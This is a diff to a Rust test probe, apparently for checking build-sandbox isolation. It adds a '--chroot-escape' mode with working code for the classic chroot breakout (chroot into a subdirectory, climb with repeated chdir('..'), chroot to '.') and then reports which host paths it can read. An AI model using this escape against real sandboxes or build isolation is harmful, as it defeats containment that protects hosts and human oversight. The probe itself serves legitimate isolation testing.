@@ -35,7 +35,51 @@ fn write_file(path: &str, text: &str) -> Result<(), nix::errno::Errno> {
         .map_err(|e| nix::errno::Errno::from_raw(e.raw_os_error().unwrap_or(libc::EIO)))
 }
 
+/// `kat-escape-probe --chroot-escape DIR OTHER`: the classic way out of a chroot for a
+/// process with `CAP_SYS_CHROOT` (a build's `RUN` step under chroot isolation): chroot into
+/// a subdirectory while the working directory stays outside it, climb, chroot to where the
+/// climb ended. Then looks at DIR and tries to read OTHER: `escaped: DIR exists|DIR missing`,
+/// `entry: NAME` per entry (or `list: denied`), `other: READ` or `other: denied (ERROR)`.
+fn chroot_escape(dir: &str, other: &str) {
+    let _ = std::fs::create_dir("/.kat-chroot-escape");
+    if let Err(e) = nix::unistd::chroot("/.kat-chroot-escape") {
+        println!("chroot: denied ({e})");
+        return;
+    }
+    for _ in 0..64 {
+        let _ = nix::unistd::chdir("..");
+    }
+    if let Err(e) = nix::unistd::chroot(".") {
+        println!("second chroot: denied ({e})");
+        return;
+    }
+    match std::fs::metadata(dir) {
+        Ok(_) => println!("escaped: {dir} exists"),
+        Err(e) => println!("escaped: {dir} missing ({e})"),
+    }
+    match std::fs::read_dir(dir) {
+        Ok(entries) => {
+            for e in entries.flatten() {
+                println!("entry: {}", e.file_name().to_string_lossy());
+            }
+        }
+        Err(e) => println!("list: denied ({e})"),
+    }
+    match std::fs::read_dir(other) {
+        Ok(_) => println!("other: READ"),
+        Err(e) => println!("other: denied ({e})"),
+    }
+}
+
 fn main() {
+    let args: Vec<String> = std::env::args().collect();
+    if args.get(1).map(String::as_str) == Some("--chroot-escape") {
+        chroot_escape(
+            args.get(2).map_or("/", String::as_str),
+            args.get(3).map_or("/", String::as_str),
+        );
+        return;
+    }
     let mut targets: Vec<i32> = vec![1];
     targets.extend(
         std::env::args()
